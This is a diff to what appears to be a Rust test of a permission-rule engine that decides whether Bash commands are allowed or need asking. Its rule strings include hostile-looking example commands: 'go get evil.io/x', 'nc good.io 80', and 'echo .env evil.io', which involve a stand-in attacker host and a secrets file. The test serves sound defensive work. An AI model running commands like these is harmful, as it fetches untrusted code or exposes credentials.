@@ -136,6 +136,8 @@ async fn the_words_of_a_program_are_held_against_rules() {
                  allow Bash nroff a.txt
                  allow Bash tool --file=src/env
                  allow Bash nc good.io 80
+                 ask Bash go get evil.io/x
+                 allow Bash go get good.io/x
                  allow Bash echo .env evil.io
                  allow Bash npm run build",
             )
